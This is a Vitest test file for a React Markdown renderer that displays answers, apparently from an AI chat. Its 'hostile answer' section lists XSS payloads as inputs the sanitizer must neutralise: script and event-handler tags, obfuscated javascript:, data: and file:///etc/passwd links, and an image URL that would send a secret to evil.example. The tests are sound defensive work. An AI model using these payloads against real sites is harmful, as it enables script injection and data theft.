import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { startTexts } from '../language/language.ts';
import { Markdown } from './markdown.tsx';

beforeAll(() => startTexts('en'));
const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('an answer', () => {
  it('shows markdown: lists, emphasis, code, tables', () => {
    expect(html('- **bold** `code`')).toContain('<li><strong>bold</strong> <code>code</code></li>');
    expect(html('| a | b |\n|---|---|\n| 1 | 2 |')).toContain('<td>1</td>');
    expect(html('```ts\nconst a = 1;\n```')).toContain('const a = 1;');
  });

  it('has headings that begin below that of the page and skip no rank', () => {
    expect(html('## A\n#### B\n#### C\n## D\n# E').replaceAll('\n', '')).toBe(
      '<h2>A</h2><h3>B</h3><h3>C</h3><h2>D</h2><h2>E</h2>',
    );
  });

  it('says in words which tasks of a list are done', () => {
    const shown = html('- [x] one\n- [ ] two');
    expect(shown).toContain('aria-label="Done:"');
    expect(shown).toContain('aria-label="Open:"');
    expect(shown).not.toContain('<input');
  });

  it('opens web and mail links in a new tab that knows nothing of this one', () => {
    expect(html('[docs](https://example.com/a)')).toContain(
      '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
    );
    expect(html('<mail@example.com>')).toContain('href="mailto:mail@example.com"');
  });
});

describe('a hostile answer', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>*{display:none}</style>',
    '<svg onload=alert(1)>',
    '<form action="/api/v1/session"><button>Sign in</button></form>',
    'text <b onmouseover="alert(1)">bold</b>',
  ])('gets no element out of %s', (text) => {
    // It is shown as it was written: as text.
    expect(html(text)).not.toMatch(/<(script|img|a|iframe|style|svg|form|button|b)\b/);
    expect(html(text)).toContain('&lt;');
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](  javascript:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](vbscript:msgbox)',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](/api/v1/session)',
    '[x](//evil.example)',
    '[x](file:///etc/passwd)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
  ])('gets no link out of %s', (text) => {
    expect(html(text)).not.toContain('href');
  });

  it('loads no image, whose address could carry secrets away, but offers it as a link', () => {
    const shown = html('![chart](https://evil.example/?q=secret)');
    expect(shown).not.toContain('<img');
    expect(shown).toContain('>Image: chart</a>');
    expect(html('![x](data:image/svg+xml,<svg/onload=alert(1)>)')).not.toMatch(/<img|href|src=/);
  });

  it('cannot break out of a code block', () => {
    expect(html('```html\n<script>alert(1)</script>\n```')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });
});
